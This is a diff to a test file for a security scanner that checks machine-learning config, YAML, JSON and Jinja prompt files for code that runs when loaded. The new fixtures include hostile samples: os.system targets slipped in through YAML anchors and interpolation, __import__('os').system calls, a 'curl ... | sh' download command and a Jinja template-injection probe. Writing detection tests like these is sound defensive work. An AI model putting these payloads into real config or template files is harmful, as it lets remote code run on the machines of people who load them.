@@ -21,6 +21,11 @@ def kinds(text: str, name: str) -> list[str]:
     [
         ("a:\n  _target_: os.system\n", "malicious"),
         ("a:\n  _target_: builtins.eval\n", "malicious"),
+        ("x: &t os.system\na:\n  _target_: *t\n", "malicious"),
+        ("x:\n  cls: os.system\na:\n  _target_: ${x.cls}\n", "malicious"),
+        ("a:\n  name: system\n  _target_: os.${.name}\n", "malicious"),
+        ("model:\n  target: os.system\n  params: {command: id}\n", "malicious"),
+        ("model:\n  class_path: os.system\n  init_args: {command: id}\n", "malicious"),
         ("a:\n  _target_: importlib.import_module\n", "suspicious"),
         ("a: !!python/object/apply:subprocess.Popen [x]\n", "malicious"),
         ("a: !!python/name:os.system\n", "malicious"),
@@ -42,10 +47,71 @@ def test_callables_in_yaml(text: str, kind: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "name", ["NEMO", "HYDRA", "SPEECHBRAIN", "DETECTION", "AXOLOTL", "COMPOSE"]
+    "name",
+    "NEMO HYDRA SPEECHBRAIN DETECTION AXOLOTL COMPOSE LATENT_DIFFUSION YOLO YOLO_DATA".split(),
 )
 def test_honest_yaml(name: str) -> None:
     assert findings_of(getattr(honest_texts, name), "config.yaml") == []
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        (
+            "activation: __import__('os').system('id')\nbackbone:\n  - [-1, 1, Conv, [64]]\n",
+            "hostile-code",
+        ),
+        (
+            "nc: 1\nbackbone:\n  - [-1, 1, Conv, [\"__import__('os').system('id')\"]]\nhead: []\n",
+            "hostile-code",
+        ),
+        (
+            "train: a\nnames: [b]\ndownload: |\n  import os\n\n"
+            "  os.system('curl http://192.0.2.1/x | sh')\n",
+            "hostile-command",
+        ),
+        (
+            "train: a\nnames: [b]\ndownload: bash -c 'curl http://192.0.2.1/x | sh'\n",
+            "hostile-command",
+        ),
+    ],
+)
+def test_models_and_data_sets_of_yolo_hold_text_that_is_run(text: str, rule: str) -> None:
+    assert rules_of(text, "c.yaml") == {rule}
+
+
+@pytest.mark.parametrize(
+    ("activation", "kind"),
+    [
+        ("os.abort", ["malicious"]),
+        ("acme.functions.swish", ["weakness"]),
+        ("torch.nn.modules.activation.Tanh", []),
+        ("gelu", []),
+    ],
+)
+def test_sentence_transformers_calls_the_activation_that_is_named(
+    activation: str, kind: list[str]
+) -> None:
+    config = {"in_features": 2, "out_features": 2, "activation_function": activation}
+    assert kinds(json.dumps(config), "config.json") == kind
+    nested = {"sentence_transformers": {"activation_fn": activation}}
+    assert kinds(json.dumps(nested), "config.json") == kind
+
+
+@pytest.mark.parametrize(
+    ("template", "rules"),
+    [
+        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", {"template-code"}),
+        ("Dear {{ name|title }},{% for x in items %}{{ x.price }}{% endfor %}", set()),
+    ],
+)
+def test_prompts_in_jinja(template: str, rules: set[str]) -> None:
+    prompt = {"_type": "prompt", "template_format": "jinja2", "template": template}
+    assert rules_of(json.dumps(prompt), "prompt.json") == rules
+
+
+def test_a_target_with_parameters_is_not_always_a_callable() -> None:
+    assert findings_of('{"target": "email.send", "params": {"to": "a"}}', "tool.json") == []
 
 
 def test_yaml_is_bounded() -> None:
